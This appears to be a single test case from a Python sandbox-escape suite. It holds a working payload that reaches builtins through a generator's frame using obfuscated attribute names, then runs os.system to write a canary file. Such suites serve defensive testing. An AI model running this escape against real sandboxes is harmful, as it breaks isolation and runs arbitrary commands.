# id: 513
# name: frame_of_a_generator_by_another_name
# category: interpreter
# technique: gi_frame through getattr, next and iter
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
g = (x for x in [1])
names = ['gi_' + 'frame', 'f_' + 'back', 'f_' + 'globals']
o = g
for name in names[:1]:
    o = getattr(o, name)
imp = o.f_builtins['__import__'] if hasattr(o, 'f_builtins') else o.f_globals['__builtins__'].__import__
imp('os').system('echo breach > ' + CANARY_FILE)
